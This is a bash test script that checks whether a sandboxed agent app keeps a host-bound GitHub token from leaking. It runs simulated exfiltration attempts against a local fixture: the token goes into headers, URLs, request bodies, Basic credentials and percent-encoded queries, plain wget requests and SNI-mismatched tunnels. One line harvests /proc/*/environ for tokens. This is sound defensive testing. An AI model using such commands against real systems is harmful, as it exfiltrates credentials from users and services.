#!/bin/bash
# Defends SPEC §9 "Host-bound secrets: the value never enters the sandbox".
# GH_TOKEN is bound to bound.test (HTTPS, port 443) and NPM_TOKEN to other.test; free.test is allowed and bound to
# nothing (a plain tunnel). All three names are one loopback fixture on 127.0.0.1:443 and :80 (through --resolve)
# whose certificate comes from a CA of this run, given to the app as the host's (ZEUS_TEST_CA_BUNDLE); it keeps
# every byte each connection sent. A command of the session, with GH_TOKEN's placeholder in its environment, tries
# to get the value out or sent where it is not bound: the placeholder to an unbound host in a header, in the URL, in
# the first 64 KiB of a body, inside a Basic credential, percent-encoded; in clear text to the bound host (port 80);
# through a tunnel to the bound host whose TLS names another (SNI), and the other way round; with another Host on
# the bound host's connection; from its own environment and every process's /proc/PID/environ. A second session,
# whose agent frames travel on the engine's exec pipe (no lane), shows what the frames carry. Expected: the value
# reaches bound.test over TLS and nothing else (the fixture's bytes, the commands' output, the app's log, the
# frames). Control: the bound host does receive the value, and the unbound host the placeholder, so the script
# sees both ends.
# A host-bound secret needs the keychain (the secret and the interception CA): without one the script runs itself
# inside a private gnome-keyring (tests/harness/keyring-session.sh).
if [ "${ZEUS_TEST_KEYRING:-}" != 1 ]; then
    if ! command -v dbus-run-session >/dev/null || ! command -v gnome-keyring-daemon >/dev/null; then
        echo "  skip: no dbus-run-session or gnome-keyring-daemon for a private keyring" >&2
        exit 77
    fi
    keyring_home=$(mktemp -d "${TMPDIR:-/tmp}/zeus-hostile-keyring.XXXXXX")
    mkdir -p "$keyring_home/run" "$keyring_home/data" && chmod 700 "$keyring_home/run"
    XDG_DATA_HOME="$keyring_home/data" XDG_RUNTIME_DIR="$keyring_home/run" dbus-run-session -- \
        "$(dirname "$0")/../harness/keyring-session.sh" bash "$0" "$@"
    rc=$?
    rm -rf "$keyring_home"
    exit "$rc"
fi
source "$(dirname "$0")/lib.sh"
command -v openssl >/dev/null || broken "openssl (the fixture's certificates) is not installed"
command -v python3 >/dev/null || broken "python3 (the fixture) is not installed"
tlsget="$(dirname "$ZEUS_APP")/../tests/engine/tlsget"
[ -x "$tlsget" ] || broken "tlsget is not built ($tlsget; it needs OpenSSL's static libraries)"
ws=$(workspace bound)
cp "$tlsget" "$ws/tlsget" || broken "tlsget could not be copied"
# req LABEL AUTHORITY SNI < request: one HTTPS request through the agent's proxy; every line of it prefixed LABEL|.
printf '%s\n' '#!/bin/sh' 'label=$1; shift' \
    '/workspace/tlsget 3128 "$@" 2>&1 | sed "s/^/$label| /"; echo "$label| exit $?"' >"$ws/req"
chmod +x "$ws/req"

# The fixture's CA and one leaf for the three names.
tls="$scratch/tls"
mkdir -p "$tls"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$tls/ca.key" -out "$tls/ca.pem" \
    -days 2 -subj /CN=zeus-hostile-fixture-ca -addext basicConstraints=critical,CA:TRUE \
    -addext keyUsage=critical,keyCertSign >/dev/null 2>&1 || broken "the fixture's CA"
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$tls/leaf.key" -out "$tls/leaf.csr" \
    -subj /CN=bound.test >/dev/null 2>&1 || broken "the fixture's key"
printf 'subjectAltName=DNS:bound.test,DNS:other.test,DNS:free.test\nextendedKeyUsage=serverAuth\n' >"$tls/ext"
openssl x509 -req -in "$tls/leaf.csr" -CA "$tls/ca.pem" -CAkey "$tls/ca.key" -CAcreateserial -days 2 \
    -extfile "$tls/ext" -out "$tls/leaf.pem" >/dev/null 2>&1 || broken "the fixture's certificate"

# The fixture: 127.0.0.1:443 (TLS) and :80 (clear text); each connection's bytes in connections/PORT-NAME-N, NAME
# the SNI (or "clear"). Each request is answered 200 "fixture-ok", or for /echo with its own head (a server that
# reflects what it was sent).
log="$scratch/connections"
mkdir -p "$log"
cat >"$scratch/fixture.py" <<'PY'
import re, socket, ssl, sys, threading, itertools
logdir, cert, key = sys.argv[1:4]
counter = itertools.count()
def serve(conn, port):
    name, data = "clear", b""
    try:
        if port == 443:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(cert, key)
            seen = {}
            context.sni_callback = lambda s, n, c: seen.update(name=n)
            conn.settimeout(15)
            conn = context.wrap_socket(conn, server_side=True)
            name = seen.get("name") or "none"
        conn.settimeout(15)
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            data += chunk
            end = data.find(b"\r\n\r\n")
            if end < 0:
                continue
            length = re.search(rb"(?i)\r\ncontent-length: *([0-9]+)", data[:end])
            if len(data) < end + 4 + (int(length.group(1)) if length else 0):
                continue
            body = data[:end] + b"\n" if data.split(b" ")[1:2] == [b"/echo"] else b"fixture-ok\n"
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
            break
    except Exception as error:
        data += b"\n(fixture: %s)" % str(error).encode()
    finally:
        with open("%s/%d-%s-%d" % (logdir, port, name, next(counter)), "wb") as out:
            out.write(data)
        conn.close()
def listen(port):
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", port))
    server.listen(64)
    while True:
        conn, _ = server.accept()
        threading.Thread(target=serve, args=(conn, port), daemon=True).start()
for port in (443, 80):
    threading.Thread(target=listen, args=(port,), daemon=True).start()
open(logdir + "/../fixture-ready", "w").close()
threading.Event().wait()
PY
python3 "$scratch/fixture.py" "$log" "$tls/leaf.pem" "$tls/leaf.key" 2>"$scratch/fixture.err" &
fixture=$!
trap 'kill "$fixture" 2>/dev/null; rm -rf "$scratch"' EXIT
for _ in $(seq 1 50); do [ -e "$scratch/fixture-ready" ] && break; sleep 0.1; done
sleep 0.3
kill -0 "$fixture" 2>/dev/null || broken "the fixture could not listen on 127.0.0.1:443 and :80: $(cat "$scratch/fixture.err")"

value="ghp_hostile$(openssl rand -hex 16)"
decoy="npm_hostile$(openssl rand -hex 16)"
printf '%s\n' "$value" | "$ZEUS_APP" --set-secret GH_TOKEN >/dev/null 2>>"$scratch/app.log" \
    || broken "--set-secret GH_TOKEN: $(tail -n 3 "$scratch/app.log")"
printf '%s\n' "$decoy" | "$ZEUS_APP" --set-secret NPM_TOKEN >/dev/null 2>>"$scratch/app.log" \
    || broken "--set-secret NPM_TOKEN"
export ZEUS_TEST_CA_BUNDLE="$tls/ca.pem" QT_LOGGING_RULES="zeus.*.debug=true"
session_args=(--network allowlist --network-preset locked --upstream-proxy none
    --allow-host bound.test --allow-host other.test --allow-host free.test
    --resolve bound.test:443:127.0.0.1 --resolve other.test:443:127.0.0.1 --resolve free.test:443:127.0.0.1
    --resolve bound.test:80:127.0.0.1 --resolve free.test:80:127.0.0.1
    --bind-secret GH_TOKEN=bound.test --bind-secret NPM_TOKEN=other.test
    --allow-secret GH_TOKEN --allow-secret NPM_TOKEN)

# Each line one call with both secrets; every line of its output prefixed with the attack's label.
s=':secret GH_TOKEN,NPM_TOKEN'
hb='Host: bound.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n'
ho='Host: other.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n'
hf='Host: free.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n'
cat >"$scratch/lines" <<LINES
$s echo "placeholder| \$GH_TOKEN"
$s printf 'GET /control HTTP/1.1\r\n$hb' "\$GH_TOKEN" | /workspace/req control bound.test:443 bound.test
$s printf 'GET /header HTTP/1.1\r\n$hf' "\$GH_TOKEN" | /workspace/req header-free free.test:443 free.test
$s printf 'GET /header HTTP/1.1\r\n$ho' "\$GH_TOKEN" | /workspace/req header-other other.test:443 other.test
$s printf 'GET /url?t=%s HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n' "\$GH_TOKEN" | /workspace/req url-other other.test:443 other.test
$s printf 'GET /url?t=%s HTTP/1.1\r\nHost: free.test\r\nConnection: close\r\n\r\n' "\$GH_TOKEN" | /workspace/req url-free free.test:443 free.test
$s { head -c 60000 /dev/zero | tr '\0' a; printf %s "\$GH_TOKEN"; head -c 100 /dev/zero | tr '\0' a; } >/tmp/body; { printf 'POST /body HTTP/1.1\r\nHost: other.test\r\nContent-Length: %s\r\nConnection: close\r\n\r\n' \$(wc -c </tmp/body); cat /tmp/body; } | /workspace/req body-other other.test:443 other.test
$s printf 'GET /basic HTTP/1.1\r\nHost: other.test\r\nAuthorization: Basic %s\r\nConnection: close\r\n\r\n' "\$(printf 'x:%s' "\$GH_TOKEN" | base64 | tr -d '\n')" | /workspace/req basic-other other.test:443 other.test
$s printf 'GET /encoded?t=%s HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n' "\$(printf %s "\$GH_TOKEN" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')" | /workspace/req encoded-other other.test:443 other.test
$s wget -q -O - --header "Authorization: Bearer \$GH_TOKEN" http://bound.test/clear-bound 2>&1 | sed 's/^/clear-bound| /'
$s wget -q -O - --header "Authorization: Bearer \$GH_TOKEN" http://free.test/clear-free 2>&1 | sed 's/^/clear-free| /'
$s printf 'GET /sni HTTP/1.1\r\n$hf' "\$GH_TOKEN" | /workspace/req sni-free bound.test:443 free.test
$s printf 'GET /sni HTTP/1.1\r\n$hb' "\$GH_TOKEN" | /workspace/req sni-bound free.test:443 bound.test
$s printf 'GET /cdn HTTP/1.1\r\n$hf' "\$GH_TOKEN" | /workspace/req cdn bound.test:443 bound.test
$s env | grep -a '^GH_TOKEN=' | rev | sed 's/^/env| /'; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a TOKEN | rev | sed 's/^/environ| /'
LINES
zeus_session "$ws" "$scratch/lines" "$scratch/console" "${session_args[@]}"
section() { grep -a "] $1| " "$scratch/console" | sed "s/.*] $1| //"; }
# requests CONNECTIONS PATH: the fixture's connections (PORT-NAME) whose request is for PATH.
requests() { grep -la "^[A-Z]* $2[ ?]" "$log/$1"-* 2>/dev/null; }

placeholder=$(section placeholder | head -n 1)
case $placeholder in zeus-secret-GH_TOKEN-*) ;; *) broken "no placeholder in the command's environment: $(tail -n 5 "$scratch/console")" ;; esac
section control | grep -q fixture-ok || broken "control: the bound host did not answer: $(section control | tr '\n' ' ')"
grep -laF "Authorization: Bearer $value" "$log"/443-bound.test-* >/dev/null \
    || broken "control: bound.test never received the value, so the script would not see it elsewhere"
grep -laF "$placeholder" "$log"/443-free.test-* >/dev/null \
    || broken "control: free.test never received the placeholder through its tunnel"
pass "control: bound.test received the value, free.test the placeholder"

# 1. Where the value went: only to bound.test over TLS, and there only for the requests that name it.
leaked=$(grep -laF "$value" "$log"/* | grep -v '/443-bound.test-')
[ -z "$leaked" ] && pass "the value reached no connection but bound.test's TLS ones" \
    || through "the value reached $(basename -a $leaked | tr '\n' ' ')"
# A TLS that names another host than the tunnel's: refused before any request.
mapfile -t sent < <(requests 443-bound.test /sni; requests 443-free.test /sni)
if [ ${#sent[@]} -gt 0 ]; then through "another SNI than the tunnel's: the request reached the fixture"; fi
for attack in sni-free sni-bound; do
    if section "$attack" | grep -q fixture-ok; then through "$attack: a request went through"; else pass "$attack"; fi
done
# 2. The refusals, where the proxy reads the request: 403 (secret-not-bound), and the fixture saw no request.
while read -r attack connections path; do
    if ! section "$attack" | grep -q ' 403'; then
        through "$attack: not refused: $(section "$attack" | head -n 3 | tr '\n' ' ')"
    elif [ -n "$(requests "$connections" "$path")" ]; then
        through "$attack: 403, but the fixture got the request anyway"
    else
        pass "$attack (403, nothing reached the host)"
    fi
done <<TABLE
header-other 443-other.test /header
url-other 443-other.test /url
body-other 443-other.test /body
basic-other 443-other.test /basic
clear-bound 80-clear /clear-bound
clear-free 80-clear /clear-free
cdn 443-bound.test /cdn
TABLE
grep -aq 'secret_not_bound (secret GH_TOKEN ' "$scratch/console" && pass "said as network_event secret_not_bound" \
    || through "no network_event secret_not_bound for GH_TOKEN"
# Percent-encoded, the placeholder is no placeholder: it may pass, but only as itself, never as the value.
enc=$(printf %s "$value" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
if grep -laiF "$enc" "$log"/* >/dev/null; then through "the value percent-encoded reached a host"; else
    pass "percent-encoded: no value, encoded or not ($(section encoded-other | grep -o 'HTTP/1.1 [0-9]*' | head -n 1))"
fi
# 3. The command's own environment and every process's: the placeholder, never the value (reversed, so the
#    session's redaction would not hide it).
reversed=$(printf %s "$value" | rev)
section env | grep -q "$(printf %s "$placeholder" | rev)" || broken "the environment did not show the placeholder"
if grep -aqF -e "$reversed" -e "$value" "$scratch/console" || grep -aq 'REDACTED:GH_TOKEN' "$scratch/console"; then
    through "the value (or its redaction) is in a command's output"
else
    pass "env and /proc/*/environ: the placeholder only; no output holds the value"
fi

# 4. The agent's frames: a second session whose lane cannot be made (a runtime folder too long for a socket's
#    path), so the frames travel on the engine's exec pipe, read here through a wrapper of the engine.
wrappers="$scratch/bin"
mkdir -p "$wrappers"
real=$(command -v "$ZEUS_ENGINE") || broken "$ZEUS_ENGINE is not installed"
cat >"$wrappers/$ZEUS_ENGINE" <<WRAP
#!/bin/bash
if [ "\$1 \$2" = "exec -i" ]; then tee -a "$scratch/frames" | "$real" "\$@"; exit "\${PIPESTATUS[1]}"; fi
exec "$real" "\$@"
WRAP
chmod +x "$wrappers/$ZEUS_ENGINE"
: >"$scratch/frames"
long="$scratch/runtime-$(printf 'r%.0s' $(seq 1 110))"
mkdir -p "$long" && chmod 700 "$long"
printf '%s\n' "$s printf 'GET /frames HTTP/1.1\r\n$hb' \"\$GH_TOKEN\" | /workspace/req frames bound.test:443 bound.test" \
    "$s printf 'GET /echo HTTP/1.1\r\n$hb' \"\$GH_TOKEN\" | /workspace/tlsget 3128 bound.test:443 bound.test | rev | sed 's/^/echo| /'" \
    >"$scratch/lines2"
PATH="$wrappers:$PATH" XDG_RUNTIME_DIR="$long" zeus_session "$ws" "$scratch/lines2" "$scratch/console2" \
    "${session_args[@]}"
grep -aq 'fixture-ok' "$scratch/console2" || broken "the second session ran nothing: $(tail -n 5 "$scratch/console2")"
grep -aqF "$placeholder" "$scratch/frames" 2>/dev/null || grep -aq 'zeus-secret-GH_TOKEN-' "$scratch/frames" \
    || broken "no placeholder in the exec pipe's frames: the lane was used, or the frames are not where looked"
grep -aqF "$value" "$scratch/frames" && through "the value is in a frame to the agent" \
    || pass "the agent's frames: the placeholder only"
grep -aqF "$value" "$scratch/app.log" && through "the value is in the app's log" || pass "the app's log: no value"

# 5. A bound host that reflects what it was sent must not give the value back into the sandbox (SPEC §9: the value
#    never enters it): the app masks every form of it in the answer. The command reverses what it got, so the
#    session's redaction of its output cannot hide a value that came back; the control is the reflected header.
grep -aqF "$(printf 'Authorization: Bearer ' | rev)" "$scratch/console2" \
    || broken "the echo came back without the reflected header: $(grep -a 'echo|' "$scratch/console2" | head -3)"
grep -aqF "$(printf %s "$value" | rev)" "$scratch/console2" \
    && through "a bound host that echoes the request gave the value back to the command" \
    || pass "a bound host that echoes the request: the value came back masked"
finish
